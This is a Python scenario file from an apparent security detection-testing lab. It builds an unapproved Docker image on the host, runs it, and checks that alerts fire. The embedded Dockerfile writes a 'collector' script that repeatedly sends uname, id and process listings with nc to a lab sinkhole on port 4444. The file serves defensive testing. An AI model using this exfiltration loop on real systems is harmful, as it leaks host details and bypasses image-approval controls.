"""A tool image is built on the node itself and run: no pipeline, no registry, no approval."""

from __future__ import annotations

import secrets

from lab import Lab, LabError, WorkloadSpec
from scenarios.api import Expectation, Kind, Scenario
from scenarios.docker.deploy._build import build_on_host
from scenarios.variants import Dimension

DOCKERFILE = """\
FROM {base}
RUN printf '#!/bin/sh\\nwhile true; do {{ uname -a; id; ps -eo pid,comm; }} | nc -w 2 -q 1 "$1" 4444; \\
sleep 3; done\\n' > /usr/local/bin/collector && chmod 0755 /usr/local/bin/collector
ENTRYPOINT ["/usr/local/bin/collector"]
"""


class HostBuiltImage(Scenario):
    id = "docker.deploy.host-built-image"
    title = "Image built on the host and run, bypassing the image pipeline"
    kind = Kind.ADVERSARY
    techniques = ("T1612", "T1610")
    backends = ("docker",)
    expect = Expectation(fires=("stowaway.docker.unapproved-image",), within_s=15, may_fire={
        "stowaway.net.process-egress-not-allowlisted":
            "Its collector really connects with nc to the sinkhole's port 4444 on the lab internet, outside "
            "the egress allowlist.",
        "stowaway.net.egress-not-allowlisted":
            "The same connection really leaves the container for the sinkhole on the lab internet, seen on the "
            "wire, outside the egress allowlist.",
    })
    twin = "docker.deploy.approved-image"
    tags = ("deploy", "build", "defense-evasion")
    dimensions = (
        Dimension("reference", ("tag", "id", "short-id"), doc="how the run names the image: the tag it was built "
                  "with, its full image id, or the 12-digit short id"),
    )
    description = (
        "Runs `docker build` on the lab engine's host (BuildKit, offline, FROM the lab base "
        "image) to make an image with a collector script baked in, then runs a container from it on "
        "the LAN and the lab internet. The collector sends host details to the sinkhole's port 4444 "
        "every three seconds. The scenario checks the image id differs from the base image's and "
        "that the sinkhole received the data; the image is removed afterwards."
    )

    def detonate(self, lab: Lab) -> None:
        tag = f"batch-tools:{secrets.token_hex(3)}"
        image_id = build_on_host(lab, tag, DOCKERFILE.format(base=lab.image))
        if image_id == lab.image_id(lab.image):
            raise LabError("the host build produced the base image itself")
        lab.action("run a container from an image built on the host")
        reference = {"tag": tag, "id": image_id, "short-id": image_id.removeprefix("sha256:")[:12]}[
            str(self.variant["reference"])]
        worker = lab.deploy(WorkloadSpec(role="batch", image=reference, networks=("lan", "inet"),
                                         command=(lab.sinkhole.address,)))
        address = worker.addresses["inet"]
        lab.wait_for(lambda: bool(lab.sinkhole_records(peer=address)), timeout=15,
                     what="the collector's data to reach the sinkhole")
